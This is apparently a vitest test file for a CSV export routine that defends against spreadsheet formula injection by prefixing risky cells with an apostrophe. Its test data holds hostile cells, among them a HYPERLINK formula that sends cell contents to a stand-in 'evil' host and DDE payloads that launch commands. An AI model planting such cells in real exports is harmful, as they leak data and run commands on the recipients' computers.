import { describe, expect, it } from 'vitest';
import { readCsv } from './spreadsheet.ts';
import { neutraliseCsvCell, toExportCsv } from './export-csv.ts';

describe('CSV exports cannot carry formulas', () => {
  it('writes every cell starting with = + - @ tab or CR as text, and leaves plain numbers and ordinary text alone', () => {
    const hostile = ['=HYPERLINK("http://evil/?"&A1,"点击")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1'];
    for (const cell of hostile) expect(neutraliseCsvCell(cell), `${JSON.stringify(cell)} becomes text`).toBe(`'${cell}`);
    for (const cell of ['-12.50', '+3', '4850.00', '台式计算机', 'A02010105', '', '联想 启天M43']) expect(neutraliseCsvCell(cell)).toBe(cell);
  });

  it('the written file reads back with each hostile cell prefixed and nothing else changed', () => {
    const rows = [['资产名称', '原值'], ['=HYPERLINK("x")', '-100'], ['办公桌', '300.00']];
    expect(readCsv(toExportCsv(rows))).toEqual([['资产名称', '原值'], ['\'=HYPERLINK("x")', '-100'], ['办公桌', '300.00']]);
  });
});
